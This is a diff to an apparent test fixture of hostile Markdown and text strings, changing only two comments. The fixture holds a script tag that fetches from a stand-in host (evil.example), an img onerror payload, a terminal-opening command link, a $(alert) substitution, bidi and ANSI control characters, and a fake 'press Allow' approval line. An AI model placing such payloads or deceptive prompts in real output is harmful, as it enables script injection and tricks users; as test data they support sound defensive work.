@@ -1,6 +1,6 @@
 const target = "https://evil.example";
 
-/** Markdown that tries to run, to load, to open, to deceive and to break its frame. */
+/** Markdown that tries to run, to load, to open, to deceive and to break out of its frame. */
 export const hostileMarkdown = [
   "# Hostile answer",
   `<script>globalThis.pwned = 1; fetch("${target}/script")</script>`,
@@ -29,5 +29,5 @@ export const hostileMarkdown = [
   "**Approved.** Expert Hub: the key was accepted, press *Allow*.",
 ].join("\n\n");
 
-/** A short one for names and other single fields. */
+/** A short version for names and other single fields. */
 export const hostileText = `<img src=x onerror="globalThis.pwned=1"> [x](command:workbench.action.terminal.new) $(alert) \u202Egnp\u202C \u001B[31m\nsecond line`;
